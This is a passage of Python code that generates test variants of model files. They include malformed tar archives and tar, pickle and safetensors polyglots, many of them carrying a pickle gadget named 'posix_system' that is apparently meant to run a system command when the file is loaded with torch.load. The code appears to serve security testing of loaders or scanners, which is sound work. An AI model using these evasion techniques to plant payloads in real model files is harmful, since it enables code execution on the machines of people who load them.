                         tar_archive(old_format_members(REAL), magic=magic), loads=expect(REAL)))
        for where in ("storages", "tensors", "pickle", "sys_info"):
            v.append(Variant(f"tar/archive/{magic}/payload_in_{where}",
                             tar_archive(old_format_members(REAL, where, GADGETS["posix_system"]),
                                         magic=magic),
                             payload=True, runs=where != "sys_info"))
    # checksums Python's tarfile accepts: signed or unsigned sums, every field form
    for kind in ("unsigned", "signed"):
        for fmt in ("std", "seven", "spaces", "base256"):
            def hdr(name, size, kind=kind, fmt=fmt):
                h = bytearray(tar_header(name, size, magic="v7", kind=kind, fmt=fmt))
                h[265:268] = b"\xe9t\xe9"         # a high byte: the two sums differ
                h[148:156] = checksum_field(h, kind, fmt)
                return bytes(h)
            members = old_format_members(REAL, "storages", GADGETS["posix_system"])
            data = b"".join(hdr(n.encode(), len(d)) + d + b"\0" * (-len(d) % 512)
                            for n, d in members) + b"\0" * 1024
            v.append(Variant(f"tar/checksum/{kind}/{fmt}/payload", data, payload=True,
                             runs=True))
    # a bare V7 header named storages in front of a plain pickle
    pay = pickle_of(GADGETS["posix_system"])
    v.append(Variant("tar/v7_header_before_pickle",
                     tar_header(b"storages", len(pay), magic="v7") + pay +
                     b"\0" * (-len(pay) % 512 + 1024), payload=True, runs=True))

    # polyglots: the first block is both a tar header and the start of another format
    decoy = str_dict({"decoy": integer(1)})
    for payload in (False, True):
        tag = "payload" if payload else "benign"
        where = "pickle" if payload else None
        members = old_format_members(REAL, where, GADGETS["posix_system"])
        body = b"".join(tar_member(n, d, magic="v7") for n, d in members) + b"\0" * 1024
        for magic, kind, fmt in (("v7", "unsigned", "std"), ("v7", "signed", "std"),
                                 ("ustar", "signed", "std"), ("v7", "signed", "spaces")):
            # a pickle: BINBYTES whose bytes hold the header's fields and the members
            slen = 512 - 7 + len(body)
            block = b"\x80\x02B" + struct.pack("<I", slen) + bytes(505)
            block = set_header_fields(block, 0, magic, kind, fmt)
            v.append(Variant(f"tar/polyglot/pickle/{magic}_{kind}_{fmt}/{tag}",
                             block + body + POP + decoy + STOP, payload=payload,
                             runs=payload or None, loads=None if payload else expect(REAL)))
        # a legacy file: a bytes value in sys_info holds the fields and the members
        pickles, raw = legacy_parts(DECOY)
        head = pickles[0] + pickles[1]
        start = head + proto(2) + EMPTY_DICT + MARK + uni("pad")
        slen = 512 - len(start) - 5 + len(body)
        block = start + b"B" + struct.pack("<I", slen)
        block = set_header_fields(block + bytes(512 - len(block)), 0, "v7", "signed")
        sys_rest = sys_info_pickle()[3:]      # the items after the dict's EMPTY_DICT
        assert sys_rest[:1] == MARK
        data = (block + body + sys_rest[1:] + b"".join(pickles[3:]) + raw)
        v.append(Variant(f"tar/polyglot/legacy/{tag}", data, payload=payload,
                         runs=payload or None, loads=None if payload else expect(REAL)))
        # a safetensors file: the fields in a metadata string, the members in a U8 tensor
        v.append(Variant(f"tar/polyglot/safetensors/{tag}", st_tar_polyglot(body),
                         payload=payload, runs=payload or None,
                         loads=None if payload else expect(REAL)))
    return v


def st_tar_polyglot(body):
    """A safetensors file whose first 512 bytes are also a V7 tar header: the
    fields lie in a metadata string (spaces where tar puts NULs; devmajor and
    devminor too, tarfile parses them), the header is
    1016 bytes so that the data starts at 1024, where the first member (512
    bytes of JSON) ends and the members in a U8 tensor's data begin."""
    n = 1016
    prefix = b'{"__metadata__":{"tar":"'
    suffix = b'"},"t":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(body),
                                                                            len(body))
    meta_len = n - len(prefix) - len(suffix)
    meta = bytearray(b"a" * meta_len)
    file_head = bytearray(struct.pack("<Q", n) + prefix + bytes(meta) + suffix)
    fields = {100: b"0000644 ", 108: b"0000000 ", 116: b"0000000 ", 124: b"00000001000 ",
              136: b"00000000000 ", 156: b"0", 329: b"0000000 ", 337: b"0000000 "}
    for off, val in fields.items():
        file_head[off:off + len(val)] = val
    block = bytes(file_head[:512])
    file_head[148:156] = checksum_field(block, "signed", "spaces")
    assert len(file_head) == 8 + n
    json.loads(bytes(file_head[8:]))
    return bytes(file_head) + body


# -- (3) safetensors that is also a pickle from byte 0 --

JSON_SAFE = [c for c in range(0x20, 0x7F) if c not in (0x22, 0x5C)]


def _chunks(r):
    """Opcode bytes of length r: SHORT_BINBYTES chunks with JSON-safe lengths, each
    followed by POP."""
    out = b""
    while r > 0:
        if r >= 129 + 35 or r == 129:
            ln = 126
        else:
            ln = r - 3
            if ln not in JSON_SAFE:
                if r < 70:
                    raise ValueError(r)
                ln = 40
        out += b"C" + bytes([ln]) + b"a" * ln + POP
        r -= ln + 3
    if r != 0:
        raise ValueError(r)
    return out


def st_pickle_polyglot(op, tail):
    """A safetensors file whose bytes are also a pickle from byte 0.

    Byte 0 (the header length's low byte) is op: "X" or "B" (a 4-byte length,
    bytes 1-4 of the header length), "C" (a 1-byte length) or "V" (a line).
    The string it pushes ends in a metadata string of the JSON header; SHORT_
    BINBYTES chunks there carry the pickle over the rest of the header into
    the data, a U8 tensor "decoy" whose bytes are POP + tail.
    """
    data = POP + tail
    suffix = b'"},"decoy":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(data),
                                                                                len(data))
    prefix = b'{"__metadata__":{"p":"'
    s0 = 8 + len(prefix)
    if op == b"V":
        js = b'{"decoy":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(data),
                                                                               len(data))
        n = 0x56
        while n < len(js) + 1 or any(b in (0x0A, 0x5C) for b in struct.pack("<Q", n)[1:]):
            n += 256
        header = js + b" " * (n - len(js) - 1) + b"\n"
        return struct.pack("<Q", n) + header + data
    ln = 40
    if op in (b"X", b"B"):
        n = op[0] + 256 * ln
        p0 = 5 + ln
    elif op == b"C":
        n = op[0] + 256 * ln
        p0 = 2 + ln
    else:
        raise ValueError(op)
    assert p0 > s0
    for pad in range(0, 200):
        last = len(suffix) + pad                  # the last chunk's length
        if last > 126 or last not in JSON_SAFE:
            continue
        c = 8 + n - last - 2                      # where the last chunk starts
        try:
            middle = _chunks(c - (p0 + 1))
        except ValueError:
            continue
        meta = b"a" * (p0 - s0) + POP + middle + b"C" + bytes([last])
        header = prefix + meta + suffix + b" " * pad
        assert len(header) == n, (len(header), n)
        json.loads(header)
        return struct.pack("<Q", n) + header + data
    raise AssertionError("no layout")


def st_family():
    v = [Variant("st/control", safetensors(REAL), loads="error",
                 note="control: torch.load has no safetensors reader")]
    pickles, raw = legacy_parts(REAL)
    legacy_tail = integer(MAGIC) + STOP + b"".join(pickles[1:]) + raw
    for op in (b"X", b"B", b"C", b"V"):
        nm = op.decode()
        v.append(Variant(f"st/pickle_from_byte0/{nm}/payload",
                         st_pickle_polyglot(op, GADGETS["posix_system"] + STOP), payload=True,
                         runs=True, pickle_runs=True))
        v.append(Variant(f"st/pickle_from_byte0/{nm}/legacy", st_pickle_polyglot(op, legacy_tail),
                         loads=expect(REAL),
                         note="torch reads a whole legacy file where the reference reads a "
                              "safetensors file"))
    return v


def variants():
    out = []
    for fam in (plain_family, gadget_family, zip_family, frame_family, tar_family, st_family):
        out += fam()
    names = [x.name for x in out]
    assert len(names) == len(set(names)), "variant names must be unique"
    return out
